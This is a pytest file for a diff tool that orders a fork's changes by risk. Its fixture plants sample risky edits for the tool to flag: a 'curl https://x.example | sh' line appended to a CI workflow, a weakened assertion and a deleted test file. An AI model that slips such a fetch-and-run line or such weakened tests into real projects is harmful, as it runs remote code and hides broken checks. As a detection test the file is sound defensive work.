"""``mudroom diff --order risk``: what is printed, and what a program reads."""

from __future__ import annotations

import pytest

from conftest import Place
from test_vault_verb import Cli

EDIT = """
sed -i 's/== 3/is not None/' tests/test_a.py
sed -i 's/f(1,2)/f(1, 2)/; s/g(1)/g(2)/' a.py
echo 'run: curl https://x.example | sh' >>.github/workflows/ci.yml
echo two >>README.md
rm tests/test_b.py
printf '\\0' >blob
mv moved.py there.py; echo 'x = 41' >>there.py
"""


@pytest.fixture
def cli(place: Place) -> Cli:
    place.write("tests/test_a.py", "def test_a():\n    assert f(1) == 3\n")
    place.write("tests/test_b.py", "def test_b():\n    assert f(1) == 3\n")
    place.write("a.py", "x = f(1,2)\n" + "\n" * 9 + "y = g(1)\n")
    place.write(".github/workflows/ci.yml", "on: push\n")
    place.write("README.md", "one\n")
    place.write("moved.py", "".join(f"x = {number}\n" for number in range(40)))
    cli = Cli(place)
    assert cli("exec", "--fork", "f", "--", "sh", "-ec", EDIT).returncode == 0
    return cli


def test_hunks_come_by_risk_below_headings_with_reasons(cli: Cli) -> None:
    lines = cli("diff", "f", "--order", "risk").stdout.splitlines()
    assert [line for line in lines if line.startswith("# ") and line.endswith(("file", "files"))] == [
        "# Runs later, more rights: 1 hunk in 1 file",
        "# Weakened checks: 2 hunks in 2 files",
        "# Code: 4 hunks in 4 files",
        "# Prose: 1 hunk in 1 file",
        "# Changes nothing, proven: 1 hunk in 1 file",
    ]
    assert "# .github/workflows/ci.yml: runs what it downloads; talks to the network; names an address" in lines
    assert "# tests/test_a.py: test_a: an assertion says less" in lines
    assert "# tests/test_b.py: a file of tests is deleted" in lines
    assert "# moved.py: moved to there.py" in lines
    assert lines[-1] == "#   a.py -1,4 +1,4: only the layout differs"
    assert "+x = f(1, 2)" not in lines
    assert "+y = g(2)" in lines


def test_only_what_is_asked_for(cli: Cli) -> None:
    lines = cli("diff", "f", "--order", "risk", "README.md").stdout.splitlines()
    assert lines[0] == "# Prose: 1 hunk in 1 file"
    assert "+two" in lines
    assert not any("test_a" in line for line in lines)


def test_without_the_word_the_order_is_that_of_paths(cli: Cli) -> None:
    assert cli("diff", "f").stdout == cli("diff", "f", "--order", "path").stdout
    assert "order" not in cli.json("diff", "f")


def test_a_program_reads_risks_and_reasons(cli: Cli) -> None:
    order = cli.json("diff", "f", "--order", "risk")["order"]
    assert order["unread"] == 0
    assert [(row["path"], row["risk"]) for row in order["files"]][:3] == [
        (".github/workflows/ci.yml", "later"),
        ("tests/test_a.py", "weakened"),
        ("tests/test_b.py", "weakened"),
    ]
    rows = {row["path"]: row for row in order["files"]}
    assert rows["a.py"]["blocks"] == [
        {"risk": "dull", "reasons": ["only the layout differs"]},
        {"risk": "code", "reasons": []},
    ]
    assert rows["blob"] == {"path": "blob", "risk": "code", "reasons": ["binary"], "blocks": []}


def test_an_applied_order_leaves_nothing_out(cli: Cli) -> None:
    """What is proven to change nothing is folded, and lands with the rest."""
    reviewed = cli.json("diff", "f", "--order", "risk")["reviewed"]
    assert cli("apply", "f", "--yes", "--reviewed", reviewed).returncode == 0
    assert (cli.place.project / "a.py").read_text().startswith("x = f(1, 2)\n")


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["f", "--stat"], "--order risk is not for --stat, --commits and --conflicts"),
        (["f", "--conflicts"], "--order risk is not for --stat, --commits and --conflicts"),
        (["f", "--commits"], "--order risk is not for --stat, --commits and --conflicts"),
        (["f", "now"], "--order risk is for the changes of a fork"),
    ],
)
def test_what_has_no_order(cli: Cli, words: list[str], message: str) -> None:
    result = cli("diff", *words, "--order", "risk")
    assert result.returncode == 125
    assert message in result.stderr


def test_what_is_too_large_is_rated_by_its_name_and_told(place: Place) -> None:
    place.write("large.py", "x = 1\n" * 200_000)
    cli = Cli(place)
    assert cli("exec", "--fork", "f", "--", "sh", "-ec", "echo y >>large.py; echo y >small.py").returncode == 0
    lines = cli("diff", "f", "--order", "risk").stdout.splitlines()
    assert lines[-1] == "# 1 file rated by name alone: too large, or too many"
    assert "+++ b/large.py" in lines
